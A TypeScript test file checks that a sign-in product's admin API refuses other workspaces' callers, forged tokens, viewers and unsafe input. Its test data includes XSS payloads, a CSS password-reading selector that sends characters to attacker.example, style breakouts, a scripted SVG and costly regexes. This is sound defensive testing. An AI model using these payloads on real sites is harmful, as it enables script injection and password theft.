// The admin API against callers and input it must refuse. Each case asserts the refusal and that the
// database did not change: another console workspace's owner, another app's API key, an app user's
// token, a viewer, unsafe CSS, colours, logos and redirect URIs, and an API key creating apps.
// Validation refusals read the same for bearer and x-api-key callers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, inArray } from 'drizzle-orm';
import type { TestFoyer } from '../../../server/testing.ts';
import { startFoyer } from '../../../server/testing.ts';
import { apiKeys, appAssets, appDrafts, appOwners, apps, appVersions, auditEvents, tenants } from '../../../server/db/schema.ts';
import type { AppConfig } from '../../../common/app-config.ts';
import { accessTokenFor, admin, consoleOwnerToken, CONSOLE_WORKSPACE, newConsoleUser } from '../support/console.ts';
import { LOGO_UPLOADS } from '../../../server/admin/service.ts';
import { MAX_OWNER_PATTERN_PROGRAM_SIZE, MAX_OWNER_PATTERN_REPEAT } from '../../../common/owner-pattern.ts';

let foyer: TestFoyer;
/** The demo owner: owns the demo app and app B. */
let ownerToken: string;
/** Another console workspace's owner: owns app A only. */
let otherToken: string;
let viewerToken: string;
let appA: { id: string; apiKey: string };
let appB: { id: string; apiKey: string };

async function createApp(token: string, name: string) {
  const created = await admin<{ app: { id: string }; apiKey: string }>(foyer, 'POST', '/apps', { token, body: { name } });
  expect(created.status).toBe(201);
  return { id: created.body.app.id, apiKey: created.body.apiKey };
}

beforeAll(async () => {
  foyer = await startFoyer();
  const other = await newConsoleUser(foyer, { workspace: 'Other company', role: 'OWNER' });
  const viewer = await newConsoleUser(foyer, { workspace: CONSOLE_WORKSPACE, role: 'VIEWER' });
  [ownerToken, otherToken, viewerToken] = await Promise.all([
    consoleOwnerToken(foyer),
    accessTokenFor(foyer, other),
    accessTokenFor(foyer, viewer),
  ]);
  appA = await createApp(otherToken, 'App A');
  appB = await createApp(ownerToken, 'App B');
});

afterAll(async () => {
  await foyer?.close();
});

/** Everything an admin write could touch, for every app. */
async function snapshot() {
  const ids = [appA.id, appB.id, foyer.demo.appId];
  return {
    apps: await foyer.db.select().from(apps).where(inArray(apps.id, ids)).orderBy(apps.id),
    owners: await foyer.db.select().from(appOwners).orderBy(appOwners.appId, appOwners.tenantId),
    drafts: await foyer.db.select().from(appDrafts).orderBy(appDrafts.appId),
    versions: await foyer.db.select().from(appVersions).orderBy(appVersions.appId, appVersions.version),
    // A refused call with a live key still counts as that key's use (lastUsedAt): the keys themselves must not change.
    keys: await foyer.db
      .select({ id: apiKeys.id, appId: apiKeys.appId, keyHash: apiKeys.keyHash, name: apiKeys.name, createdAt: apiKeys.createdAt })
      .from(apiKeys)
      .orderBy(apiKeys.id),
    assets: await foyer.db.select({ id: appAssets.id }).from(appAssets).orderBy(appAssets.id),
    tenants: await foyer.db.select({ id: tenants.id }).from(tenants).where(inArray(tenants.appId, ids)).orderBy(tenants.id),
    audit: await foyer.db.select({ id: auditEvents.id }).from(auditEvents).where(inArray(auditEvents.appId, ids)).orderBy(auditEvents.id),
    allApps: (await foyer.db.select({ id: apps.id }).from(apps)).length,
  };
}

/** Runs `refusals` and checks that none of them changed anything. */
async function expectNothingChanged(refusals: () => Promise<void>) {
  const before = await snapshot();
  await refusals();
  expect(await snapshot()).toEqual(before);
}

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

/** Every admin route on `appId`, each with a body it would accept from its owner. */
function routesOn(appId: string, config: AppConfig) {
  return [
    ['GET', `/apps/${appId}`, undefined],
    ['GET', `/apps/${appId}/changes`, undefined],
    ['GET', `/apps/${appId}/versions`, undefined],
    ['GET', `/apps/${appId}/versions/1`, undefined],
    ['PUT', `/apps/${appId}/draft`, { config }],
    ['DELETE', `/apps/${appId}/draft`, undefined],
    ['POST', `/apps/${appId}/publish`, {}],
    ['POST', `/apps/${appId}/versions/1/restore`, undefined],
    ['POST', `/apps/${appId}/api-key`, undefined],
    ['POST', `/apps/${appId}/client-secret`, undefined],
    ['POST', `/apps/${appId}/logo`, PNG],
    ['POST', `/apps/${appId}/workspaces`, { name: 'Intruders', ownerEmail: 'intruder@example.test' }],
  ] as const;
}

async function liveOf(appId: string, credentials: { token?: string; apiKey?: string }): Promise<AppConfig> {
  const answer = await admin<{ live: AppConfig }>(foyer, 'GET', `/apps/${appId}`, credentials);
  expect(answer.status).toBe(200);
  return answer.body.live;
}

const unknownApp = { statusCode: 404, error: 'UNKNOWN_APP', message: 'Unknown app' };

describe("another workspace's apps", () => {
  it('an owner of app A can neither read nor write app B, nor see it listed; B reads like an unknown app', async () => {
    // A draft on B, so a discard or publish would have something to act on.
    const config = { ...(await liveOf(appB.id, { token: ownerToken })), name: 'B edited by its owner' };
    expect((await admin(foyer, 'PUT', `/apps/${appB.id}/draft`, { token: ownerToken, body: { config } })).status).toBe(200);

    await expectNothingChanged(async () => {
      for (const target of [appB.id, foyer.demo.appId, '00000000-0000-4000-8000-000000000000']) {
        for (const [method, path, body] of routesOn(target, { ...config, name: 'Taken over' })) {
          const answer = await admin(foyer, method, path, { token: otherToken, body, contentType: 'image/png' });
          expect({ method, path, status: answer.status, body: answer.body }).toEqual({ method, path, status: 404, body: unknownApp });
        }
      }
      const listed = await admin<{ apps: { id: string }[] }>(foyer, 'GET', '/apps', { token: otherToken });
      expect(listed.body.apps.map((app) => app.id)).toEqual([appA.id]);
    });
  });

  it("app B's API key does nothing on app A (or the demo app)", async () => {
    const config = await liveOf(appA.id, { token: otherToken });
    await expectNothingChanged(async () => {
      for (const target of [appA.id, foyer.demo.appId]) {
        for (const [method, path, body] of routesOn(target, config)) {
          const answer = await admin(foyer, method, path, { apiKey: appB.apiKey, body, contentType: 'image/png' });
          expect({ method, path, status: answer.status, body: answer.body }).toEqual({ method, path, status: 404, body: unknownApp });
        }
      }
    });
  });
});

describe('credentials that are no console credentials', () => {
  it("refuses an app user's access token, a forged or garbled token, an unknown key and no credentials with 401", async () => {
    const owner = foyer.demo.users[0]!;
    const appUserToken = await accessTokenFor(foyer, {
      email: owner.email,
      password: owner.password,
      workspace: 'Acme',
      appId: foyer.demo.appId,
      redirectUri: `${foyer.urls.ui}/auth/oauth-callback`,
    });
    const config = await liveOf(appB.id, { token: ownerToken });
    const [header, payload] = ownerToken.split('.');
    const forged = `${header}.${payload}.${Buffer.from('not the signature').toString('base64url')}`;
    await expectNothingChanged(async () => {
      for (const credentials of [{ token: appUserToken }, { token: forged }, { token: 'garbage' }, { apiKey: 'fyk_unknown' }, {}]) {
        for (const [method, path, body] of [
          ...routesOn(appB.id, config),
          ['GET', '/apps', undefined] as const,
          ['POST', '/apps', { name: 'X' }] as const,
        ]) {
          const answer = await admin(foyer, method, path, { ...credentials, body, contentType: 'image/png' });
          expect({ method, path, status: answer.status, error: answer.body.error }).toEqual({
            method,
            path,
            status: 401,
            error: 'UNAUTHENTICATED',
          });
        }
      }
    });
  });

  it('refuses app creation with an API key (403)', async () => {
    await expectNothingChanged(async () => {
      const answer = await admin(foyer, 'POST', '/apps', { apiKey: appB.apiKey, body: { name: 'By key' } });
      expect(answer.status).toBe(403);
      expect(answer.body.error).toBe('FORBIDDEN');
    });
  });
});

describe('a VIEWER of the owning console workspace', () => {
  it('reads the apps but every write is 403', async () => {
    expect((await admin(foyer, 'GET', `/apps/${appB.id}`, { token: viewerToken })).status).toBe(200);
    expect((await admin(foyer, 'GET', `/apps/${appB.id}/versions`, { token: viewerToken })).status).toBe(200);
    const config = { ...(await liveOf(appB.id, { token: viewerToken })), name: 'Viewer edit' };
    await expectNothingChanged(async () => {
      for (const [method, path, body] of routesOn(appB.id, config).filter(([method]) => method !== 'GET')) {
        const answer = await admin(foyer, method, path, { token: viewerToken, body, contentType: 'image/png' });
        expect({ method, path, status: answer.status, error: answer.body.error }).toEqual({
          method,
          path,
          status: 403,
          error: 'FORBIDDEN',
        });
      }
      const create = await admin(foyer, 'POST', '/apps', { token: viewerToken, body: { name: 'Viewer app' } });
      expect(create.status).toBe(403);
    });
  });
});

describe('documents the schema or the CSS rule refuses', () => {
  /** Writes `config` to app B as its owner and with its key; both must get the same 400 body. */
  async function refusedDraft(config: unknown) {
    const byToken = await admin(foyer, 'PUT', `/apps/${appB.id}/draft`, { token: ownerToken, body: { config } });
    const byKey = await admin(foyer, 'PUT', `/apps/${appB.id}/draft`, { apiKey: appB.apiKey, body: { config } });
    expect(byToken.status).toBe(400);
    expect(byKey.body).toEqual(byToken.body);
    return byToken.body as { statusCode: number; error: string; message: string; details: { path: string; message: string }[] };
  }

  it.each([
    ['</style><script>alert(1)</script>', 'INVALID_CSS'],
    ['body { width: expression(alert(1)) }', 'INVALID_CSS'],
    ['body { background: url(javascript:alert(1)) }', 'INVALID_CSS'],
    ['body { background: url(\\6a avascript:alert(1)) }', 'INVALID_CSS'],
    // Issue 13: the selector that read a typed password one character at a time.
    ['input[type=password][value$="a"]{background:url(https://attacker.example/a)}', 'INVALID_CSS'],
    ['.logo { background: url(https://attacker.example/a) }', 'INVALID_CSS'],
    [`a{}${' '.repeat(50_000)}`, 'VALIDATION_FAILED'],
  ])('refuses custom CSS %#', async (customCss, error) => {
    const live = await liveOf(appB.id, { token: ownerToken });
    await expectNothingChanged(async () => {
      const body = await refusedDraft({ ...live, branding: { customCss } });
      expect(body.error).toBe(error);
      expect(body.details.map((detail) => detail.path)).toEqual(['/branding/customCss']);
    });
  });

  it('refuses a colour that would break out of its declaration, naming the path', async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    await expectNothingChanged(async () => {
      const body = await refusedDraft({ ...live, branding: { colors: { primary: 'red;}body{x:y' } } });
      expect(body).toMatchObject({ statusCode: 400, error: 'VALIDATION_FAILED' });
      expect(body.details).toEqual([
        {
          path: '/branding/colors/primary',
          code: 'pattern',
          params: { pattern: expect.any(String) },
          message: expect.stringContaining('must match pattern'),
        },
      ]);
    });
  });

  it('refuses languages Foyer does not ship, and a default language the app does not offer', async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    await expectNothingChanged(async () => {
      const unknown = await refusedDraft({ ...live, languages: ['sv', 'xx'] } as AppConfig);
      expect(unknown).toMatchObject({ statusCode: 400, error: 'VALIDATION_FAILED' });
      expect(unknown.details.map((detail) => detail.path)).toEqual(['/languages/1']);
      const none = await refusedDraft({ ...live, languages: [] });
      expect(none.details.map((detail) => detail.path)).toEqual(['/languages']);
      const unoffered = await refusedDraft({ ...live, languages: ['sv', 'ar'], defaultLanguage: 'en' });
      expect(unoffered.details).toEqual([
        { path: '/defaultLanguage', code: 'unofferedDefaultLanguage', params: {}, message: 'must be one of the offered languages' },
      ]);
    });
  });

  it("refuses a logo from another address, or another app's asset, which the hosted screens would not show", async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    await expectNothingChanged(async () => {
      for (const logo of ['https://cdn.example/logo.png', `${foyer.urls.api}/${appA.id}/assets/x`]) {
        const body = await refusedDraft({ ...live, logo });
        expect(body).toMatchObject({ statusCode: 400, error: 'VALIDATION_FAILED' });
        expect(body.details).toEqual([
          { path: '/logo', code: 'foreignLogo', params: {}, message: expect.stringContaining('upload the logo') },
        ]);
      }
    });
  });

  it('refuses owner patterns the linear-time engine cannot run (backreferences, lookaround)', async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    await expectNothingChanged(async () => {
      const lookahead = await refusedDraft({ ...live, passwordPolicy: { complexityRegex: '(?=.*[A-Z]).{10,}' } });
      expect(lookahead.details).toEqual([
        { path: '/passwordPolicy/complexityRegex', code: 'format', params: { format: 'regex' }, message: 'must match format "regex"' },
      ]);
      const field = { label: 'code', type: 'regex', userLabel: 'Code', regex: '(a+)\\1b' };
      const backreference = await refusedDraft({ ...live, customSignupFields: [field] });
      expect(backreference.details).toEqual([
        { path: '/customSignupFields/0/regex', code: 'format', params: { format: 'regex' }, message: 'must match format "regex"' },
      ]);
    });
    // Nested quantifiers are fine: RE2 runs them in linear time (tests/server/graphql/signup.test.ts).
    const nested = await admin(foyer, 'PUT', `/apps/${appB.id}/draft`, {
      token: ownerToken,
      body: { config: { ...live, passwordPolicy: { complexityRegex: '(a+)+b' } } },
    });
    expect(nested.status).toBe(200);
    expect((await admin(foyer, 'DELETE', `/apps/${appB.id}/draft`, { token: ownerToken })).status).toBe(204);
  });

  it('refuses owner patterns of large counts or large programs, which RE2 runs but slowly (0.25-0.65 s a signup)', async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    await expectNothingChanged(async () => {
      // The finding's pattern: forty counted runs, 80,000 instructions once compiled.
      const costly = await refusedDraft({ ...live, passwordPolicy: { complexityRegex: '\\w{0,1000}'.repeat(40) } });
      expect(costly.details).toEqual([
        {
          path: '/passwordPolicy/complexityRegex',
          code: 'costlyPattern',
          params: { reason: 'repeat' },
          message: expect.stringContaining(`above ${MAX_OWNER_PATTERN_REPEAT}`),
        },
      ]);
      // Small counts, but many of them: a large program all the same.
      const field = { label: 'code', type: 'regex', userLabel: 'Code', regex: '[ab]*a[ab]{20}'.repeat(10) };
      const large = await refusedDraft({ ...live, customSignupFields: [field] });
      expect(large.details).toEqual([
        {
          path: '/customSignupFields/0/regex',
          code: 'costlyPattern',
          params: { reason: 'programSize' },
          message: expect.stringContaining(`at most ${MAX_OWNER_PATTERN_PROGRAM_SIZE} steps`),
        },
      ]);
    });
  });

  it('refuses a javascript: redirect URI, in a draft and when creating an app', async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    await expectNothingChanged(async () => {
      const body = await refusedDraft({ ...live, redirectUris: ['javascript:alert(1)'] });
      expect(body.details.map((detail) => detail.path)).toEqual(['/redirectUris/0']);
      const created = await admin(foyer, 'POST', '/apps', {
        token: ownerToken,
        body: { name: 'Bad', redirectUris: ['javascript:alert(1)'] },
      });
      expect(created.status).toBe(400);
      expect(created.body).toMatchObject({ error: 'VALIDATION_FAILED', details: [{ path: '/redirectUris/0' }] });
    });
  });

  it('refuses switching every way to sign in off, and takes the same document with one left on', async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    const allOff = { ...live, passwordEnabled: false, passkeysEnabled: false, magicLinkEnabled: false, googleSsoEnabled: false };
    await expectNothingChanged(async () => {
      expect((await refusedDraft(allOff)).details).toEqual([
        { path: '/passwordEnabled', code: 'noSignInMethod', params: {}, message: 'keep at least one way to sign in switched on' },
      ]);
    });
    const withMagicLink = await admin(foyer, 'PUT', `/apps/${appB.id}/draft`, {
      token: ownerToken,
      body: { config: { ...allOff, magicLinkEnabled: true } },
    });
    expect(withMagicLink.status).toBe(200);
    expect((await admin(foyer, 'DELETE', `/apps/${appB.id}/draft`, { token: ownerToken })).status).toBe(204);
  });

  it('refuses unknown settings, a missing name and a body that is no document', async () => {
    const live = await liveOf(appB.id, { token: ownerToken });
    const { name: _name, ...nameless } = live;
    await expectNothingChanged(async () => {
      expect((await refusedDraft({ ...live, isAdmin: true })).details).toEqual([
        { path: '/isAdmin', code: 'additionalProperties', params: { additionalProperty: 'isAdmin' }, message: 'is not a known setting' },
      ]);
      expect((await refusedDraft(nameless)).details.map((detail) => detail.path)).toEqual(['/name']);
      expect((await refusedDraft('not a document')).error).toBe('VALIDATION_FAILED');
      const longNote = await admin(foyer, 'POST', `/apps/${appB.id}/publish`, { token: ownerToken, body: { note: 'x'.repeat(501) } });
      expect(longNote.body).toMatchObject({
        statusCode: 400,
        error: 'VALIDATION_FAILED',
        details: [{ path: '/note', code: 'maxLength', params: { limit: 500 } }],
      });
    });
  });

  // These bodies are documented in the OpenAPI document but checked by the handlers (server/http/openapi.ts):
  // a route schema would coerce the number to "5" or answer BAD_REQUEST without the field.
  it("answers bodies of the wrong types with the handlers' own refusals, never a coerced value", async () => {
    await expectNothingChanged(async () => {
      const numericNote = await admin(foyer, 'POST', `/apps/${appB.id}/publish`, { token: ownerToken, body: { note: 5 } });
      expect(numericNote.body).toMatchObject({ statusCode: 400, error: 'VALIDATION_FAILED', details: [{ path: '/note', code: 'type' }] });
      const listName = await admin(foyer, 'POST', `/apps/${appB.id}/workspaces`, { token: ownerToken, body: { name: ['Acme'] } });
      expect(listName.body).toMatchObject({ statusCode: 400, error: 'VALIDATION_FAILED', details: [{ path: '/name', code: 'required' }] });
      const arrayBody = await admin(foyer, 'POST', '/apps', { token: ownerToken, body: [] });
      expect(arrayBody.body).toMatchObject({ statusCode: 400, error: 'VALIDATION_FAILED', details: [{ path: '/', code: 'type' }] });
    });
  });
});

describe('logo uploads', () => {
  it.each([
    ['a text file declared as PNG', Buffer.from('just some text, not an image'), 'image/png', 400, 'UNSUPPORTED_IMAGE'],
    ['a PNG declared as JPEG', PNG, 'image/jpeg', 400, 'UNSUPPORTED_IMAGE'],
    [
      'an SVG',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'image/svg+xml',
      400,
      'UNSUPPORTED_IMAGE',
    ],
    ['an empty PNG', Buffer.alloc(0), 'image/png', 400, 'UNSUPPORTED_IMAGE'],
    ['a 300 KiB PNG', Buffer.concat([PNG, Buffer.alloc(300 * 1024)]), 'image/png', 413, 'FILE_TOO_LARGE'],
  ])('refuses %s', async (_label, bytes, contentType, status, error) => {
    await expectNothingChanged(async () => {
      for (const credentials of [{ token: ownerToken }, { apiKey: appB.apiKey }]) {
        const answer = await admin(foyer, 'POST', `/apps/${appB.id}/logo`, { ...credentials, body: bytes, contentType });
        expect({ status: answer.status, error: answer.body.error }).toEqual({ status, error });
      }
    });
  });

  it('stores at most LOGO_UPLOADS.max logos an hour per app, then answers 429 and stores nothing', async () => {
    const { id: appId } = await createApp(ownerToken, 'Logo flood');
    for (let upload = 0; upload < LOGO_UPLOADS.max; upload++) {
      expect((await admin(foyer, 'POST', `/apps/${appId}/logo`, { token: ownerToken, body: PNG, contentType: 'image/png' })).status).toBe(
        201,
      );
    }
    const stored = await foyer.db.select({ id: appAssets.id }).from(appAssets).where(eq(appAssets.appId, appId));
    const refused = await admin(foyer, 'POST', `/apps/${appId}/logo`, { token: ownerToken, body: PNG, contentType: 'image/png' });
    expect({ status: refused.status, error: refused.body.error }).toEqual({ status: 429, error: 'TOO_MANY_UPLOADS' });
    expect(await foyer.db.select({ id: appAssets.id }).from(appAssets).where(eq(appAssets.appId, appId))).toEqual(stored);
  });

  it('serves no asset of another app under this app, nor an unknown one', async () => {
    const uploaded = await admin<{ url: string }>(foyer, 'POST', `/apps/${appB.id}/logo`, {
      token: ownerToken,
      body: PNG,
      contentType: 'image/png',
    });
    expect(uploaded.status).toBe(201);
    const assetId = uploaded.body.url.split('/').at(-1)!;
    expect((await fetch(`${foyer.urls.api}/${appA.id}/assets/${assetId}`)).status).toBe(404);
    expect((await fetch(`${foyer.urls.api}/${appB.id}/assets/not-a-uuid`)).status).toBe(404);
    const [asset] = await foyer.db.select({ appId: appAssets.appId }).from(appAssets).where(eq(appAssets.id, assetId));
    expect(asset!.appId).toBe(appB.id);
  });
});
